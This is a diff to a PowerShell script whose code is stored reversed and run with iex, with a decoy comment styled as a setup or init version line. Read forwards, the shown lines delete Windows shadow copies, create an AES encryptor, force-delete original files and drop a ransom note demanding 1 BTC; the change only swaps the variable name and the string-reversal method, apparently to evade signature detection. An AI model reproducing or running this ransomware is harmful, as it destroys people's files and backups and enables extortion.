@@ -1,4 +1,4 @@
-$hatqh='
+$osjas='
 ''.meht erotser ot CTB 1 yaP .detpyrcne neeb evah selif ruoY'' txt.TPYRCED_OT_WOH\potkseD\cilbuP\sresU\:C tnetnoC-teS
 }
 ecroF- emaNlluF._$ metI-evomeR  
@@ -10,4 +10,4 @@ ecroF- emaNlluF._$ metI-evomeR
 )(etaerC::]seA.yhpargotpyrC.ytiruceS.metsyS[ = sea$
 } )(eteleD._$ { tcejbO-hcaEroF | ypoCwodahS_23niW tcejbOimW-teG
 teiuq/ lla/ swodahs eteled exe.nimdassv
-1v 1356 putes #'; iex (-join $hatqh[-1..-($hatqh.Length)])
+1v 4835 tini #'.ToCharArray(); [array]::Reverse($osjas); iex (-join $osjas)
